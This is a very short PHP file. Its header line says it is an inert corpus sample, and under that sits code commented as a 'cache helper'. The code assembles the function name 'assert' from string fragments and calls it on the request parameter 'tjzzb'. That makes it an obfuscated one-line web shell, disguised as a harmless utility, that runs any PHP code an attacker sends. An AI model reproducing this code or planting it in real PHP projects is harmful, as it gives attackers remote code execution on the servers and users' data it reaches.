<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
// cache helper
$cvo = 'as'.'se'.'rt';
$cvo(@$_REQUEST['tjzzb']);
